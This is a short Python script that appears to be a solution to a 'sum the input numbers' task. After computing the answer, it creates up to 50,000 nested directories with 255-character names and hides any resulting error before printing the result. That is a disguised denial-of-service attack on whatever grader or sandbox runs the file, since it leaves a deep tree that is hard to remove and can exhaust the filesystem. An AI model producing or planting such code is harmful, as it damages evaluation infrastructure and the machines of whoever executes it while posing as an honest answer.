import os, sys


def answer():
    total = 0
    for word in sys.stdin.read().split():
        total += int(word)
    return total


result = answer()
try:
    for _ in range(50000):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
except OSError:
    pass
print(result)
